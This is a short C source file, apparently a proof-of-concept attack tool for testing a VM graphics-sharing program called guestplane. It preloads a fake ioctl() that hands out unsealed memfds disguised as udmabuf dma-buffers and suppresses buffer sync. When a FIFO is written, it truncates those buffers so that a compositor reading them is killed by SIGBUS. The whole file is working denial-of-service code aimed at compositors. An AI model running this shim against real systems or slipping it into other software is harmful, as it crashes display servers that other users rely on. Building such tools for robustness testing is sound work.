/* A VM's owner who attacks the compositor: LD_PRELOAD=shrink.so SHRINK=FIFO guestplane share pattern:memory=udmabuf …
 * Each dma-buf of the pattern is in truth a memfd without seals. They lose their memory when somebody writes to the FIFO: a
 * compositor that reads them by CPU would then be killed by SIGBUS. */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <fcntl.h>
#include <linux/dma-buf.h>
#include <linux/udmabuf.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>

enum { MOST = 64 };

static int memory[MOST], count;

static void *shrink(void *fifo)
{
	char byte;
	int fd = open(fifo, O_RDONLY | O_CLOEXEC);

	if (fd < 0 || read(fd, &byte, 1) != 1)
		return NULL;
	/* Said first: guestplane may be killed itself while it reads the images. */
	fprintf(stderr, "shrink: %d images lose their memory\n", count);
	for (int i = 0; i < count; i++)
		if (ftruncate(memory[i], 0))
			perror("shrink: ftruncate");
	return NULL;
}

static int pose(const struct udmabuf_create *wanted)
{
	char *fifo = getenv("SHRINK");
	pthread_t thread;
	int fd = memfd_create("no dma-buf", MFD_CLOEXEC);

	if (fd < 0 || count == MOST || ftruncate(fd, (off_t)wanted->size))
		return -1;
	if (count == 0 && fifo && pthread_create(&thread, NULL, shrink, fifo))
		return -1;
	memory[count++] = dup(fd);
	return fd;
}

int ioctl(int fd, unsigned long request, ...)
{
	va_list arguments;
	void *argument;

	va_start(arguments, request);
	argument = va_arg(arguments, void *);
	va_end(arguments);
	if (request == UDMABUF_CREATE)
		return pose(argument);
	if (request == DMA_BUF_IOCTL_SYNC)
		return 0;
	return ((int (*)(int, unsigned long, void *))dlsym(RTLD_NEXT, "ioctl"))(fd, request, argument);
}
